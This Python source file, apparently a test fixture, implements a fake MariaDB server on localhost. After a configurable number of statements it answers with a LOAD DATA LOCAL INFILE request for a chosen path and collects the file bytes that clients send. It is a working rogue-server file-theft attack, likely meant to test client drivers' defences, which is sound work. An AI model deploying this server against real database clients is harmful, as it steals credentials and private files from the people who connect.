"""A malicious MariaDB server that asks its clients for their local files."""

from __future__ import annotations

import socket
import struct
import threading
from contextlib import suppress


class LyingMariaDb:
    """Answers each statement with a request for a file, as `LOAD DATA LOCAL INFILE` is answered.

    Args:
        path: the file that it asks for; a path or a URL.
        patience: how many statements it answers correctly before it asks for the file.

    Attributes:
        port: where it listens, on 127.0.0.1.
        stolen: the bytes of the file that clients sent.
        statements: the statements that clients sent.
    """

    def __init__(self, path: str, patience: int = 0) -> None:
        self.stolen = b""
        self.statements: list[str] = []
        self._path = path
        self._patience = patience
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]
        threading.Thread(target=self._serve, name="lying server", daemon=True).start()

    def close(self) -> None:
        """Stops listening."""
        self._listener.close()

    def _serve(self) -> None:
        with suppress(OSError):
            while True:
                client, _ = self._listener.accept()
                threading.Thread(target=self._answer, args=(client,), daemon=True).start()

    def _answer(self, client: socket.socket) -> None:
        greeting = (
            b"\x0a10.11.6-MariaDB\0"
            + struct.pack("<I", 7)
            + b"12345678\0"
            # with LOCAL_FILES; without TLS and compression
            + struct.pack("<HBHH", 0xF7DF & ~0x0820, 45, 2, 0x000F)
            + b"\x15"
            + bytes(10)
            + b"123456789012\0mysql_native_password\0"
        )
        with client, suppress(OSError, EOFError):
            _send(client, 0, greeting)
            number, _ = _receive(client)
            _send(client, number + 1, _OK)
            while True:
                number, packet = _receive(client)
                if packet[:1] != b"\x03":
                    _send(client, number + 1, _OK)
                    continue
                self.statements.append(packet[1:].decode("utf-8", "replace"))
                if packet[1:].lower().startswith(b"select @@"):
                    _send_settings(client, number + 1, self.statements[-1])
                    continue
                if len(self.statements) <= self._patience:
                    _send(client, number + 1, _OK)
                    continue
                _send(client, number + 1, b"\xfb" + self._path.encode())
                while True:
                    number, packet = _receive(client)
                    if not packet:
                        break
                    self.stolen += packet
                _send(client, number + 1, _OK)


_OK = b"\0\0\0\x02\0\0\0"


_END = b"\xfe\0\0\x02\0"
_SETTINGS = {"max_allowed_packet": b"16777216", "auto_increment_increment": b"1"}


def _send_settings(client: socket.socket, number: int, statement: str) -> None:
    """Answers the query for settings that a driver sends when it connects."""
    names = [name.strip().lstrip("@") for name in statement[len("select ") :].split(",")]
    packets = [bytes([len(names)])]
    for name in names:
        texts = (b"def", b"", b"", b"", name.encode(), b"")
        described = b"".join(bytes([len(text)]) + text for text in texts)
        packets.append(described + b"\x0c" + struct.pack("<HIBHBH", 45, 99, 253, 0, 0, 0))
    values = [_SETTINGS.get(name, b"+00:00") for name in names]
    row = b"".join(bytes([len(value)]) + value for value in values)
    for place, packet in enumerate([*packets, _END, row, _END]):
        _send(client, number + place, packet)


def _send(client: socket.socket, number: int, packet: bytes) -> None:
    client.sendall(struct.pack("<I", len(packet))[:3] + bytes([number & 0xFF]) + packet)


def _receive(client: socket.socket) -> tuple[int, bytes]:
    head = _exactly(client, 4)
    return head[3], _exactly(client, int.from_bytes(head[:3], "little"))


def _exactly(client: socket.socket, size: int) -> bytes:
    found = b""
    while len(found) < size:
        more = client.recv(size - len(found))
        if not more:
            raise EOFError
        found += more
    return found
